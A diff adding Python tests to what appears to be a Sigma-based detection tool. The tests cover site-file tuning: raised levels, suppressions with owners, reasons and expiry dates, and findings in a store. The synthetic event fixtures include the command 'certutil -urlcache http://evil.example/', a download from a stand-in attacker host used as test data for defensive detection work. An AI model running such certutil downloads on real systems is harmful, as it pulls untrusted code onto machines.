@@ -117,5 +117,89 @@ def sigmahq_regression_data(folder):
     equal(sum(r["result"] == "passed" for r in results), 130, "cases that pass")
 
 
+SITE = """zone = "UTC"
+rules {
+    level { rule = "4a6f2e0c-0c5f-4b7e-9d53-6c1b1f0a9e11", level = critical, owner = a, reason = b, until = never }
+    suppress { title = "Certutil*", match { CommandLine = "*files.example*", Computer = "pc1*" }
+               owner = "IT", reason = "patch tool", until = "%s" }
+}
+"""
+
+
+def three_events(folder):
+    """One that the site file explains, one of another computer, one of another command."""
+    lines = []
+    for i, (computer, host) in enumerate((("PC1.ad", "files"), ("PC2.ad", "files"),
+                                          ("PC1.ad", "evil"))):
+        lines.append(json.dumps({
+            "EventID": 4688, "Channel": "Security", "Computer": computer, "EventRecordID": i + 1,
+            "Provider_Name": "Microsoft-Windows-Security-Auditing",
+            "TimeCreated_SystemTime": f"2026-03-01T00:00:0{i}.000000Z",
+            "NewProcessName": "C:\\x\\certutil.exe",
+            "CommandLine": f"certutil -urlcache http://{host}.example/"}))
+    (folder / "events.json").write_text("\n".join(lines) + "\n")
+    return folder / "events.json"
+
+
+def tuned(folder, until="2200-12-31"):
+    rules, events = collection(folder), three_events(folder)
+    (folder / "site.conf").write_text(SITE % until)
+    return ["--rules", rules, "--site", folder / "site.conf"], events
+
+
+def hits(text):
+    return [(hit["rule"]["level"], hit.get("suppressed_by"), hit["event"]["line"])
+            for hit in jsonl(text)]
+
+
+@case
+def scan_honours_the_site_file(folder):
+    options, events = tuned(folder)
+    equal(hits(run("scan", *options, events)), [("critical", None, 2), ("critical", None, 3)], "hits")
+    true("1 hits suppressed by the site file" in run.stderr, run.stderr)
+    equal(hits(run("scan", *options, "--level", "critical", "--suppressed", events)),
+          [("critical", "IT: patch tool", 1)], "suppressed hits")
+
+
+@case
+def what_expired_does_not_act_and_is_said(folder):
+    options, events = tuned(folder, "2026-03-31")
+    equal(len(hits(run("scan", *options, events))), 3, "hits")
+    true("line 4: expired on 2026-03-31" in run.stderr, run.stderr)
+    rows = jsonl(run("rules", "tuning", *options, expect=1))
+    equal([(r["line"], r["action"], r["state"], r["acts"]) for r in rows],
+          [(3, "level", "active", True), (4, "suppress", "expired", False)], "sections")
+
+
+@case
+def a_section_about_no_rule_is_said(folder):
+    (folder / "site.conf").write_text(SITE % "2200-12-31")
+    (folder / "other.yml").write_text(RULE.replace("4a6f2e0c", "4a6f2e0d")
+                                      .replace("Certutil", "Other"))
+    run("rules", "tuning", "--site", folder / "site.conf")
+    rows = jsonl(run("rules", "tuning", "--site", folder / "site.conf", "--rules",
+                     folder / "other.yml", expect=1))
+    equal({(r["state"], r["rules"]) for r in rows}, {("names no known rule", 0)}, "states")
+    (folder / "bad.conf").write_text("rules {\n  disable { rule = x, reason = b, until = never }\n}")
+    run("rules", "tuning", "--site", folder / "bad.conf", expect=2)
+    true("line 2" in run.stderr and "owner" in run.stderr, run.stderr)
+
+
+@case
+def stored_hits_follow_the_site_file(folder):
+    options, events = tuned(folder)
+    store = ["--store", folder / "store"]
+    run("import", *store, *options, events)
+    true("1 hits suppressed by the site file" in run.stderr, run.stderr)
+    found = lambda *more: [h for h in jsonl(run("findings", *store, "--format", "jsonl", *more))
+                           if h.get("rule", {}).get("source") == "sigma"]
+    equal([h["rule"]["level"] for h in found()], ["critical"] * 2, "hits")
+    equal([h["suppressed_by"] for h in found("--suppressed")], ["IT: patch tool"], "suppressed")
+    run("detect", *store, *options[:2])
+    equal([h["rule"]["level"] for h in found()], ["high"] * 3, "hits without the site file")
+    run("detect", *store, *options)
+    equal((len(found()), len(found("--suppressed"))), (2, 1), "hits with it again")
+
+
 if __name__ == "__main__":
     main()
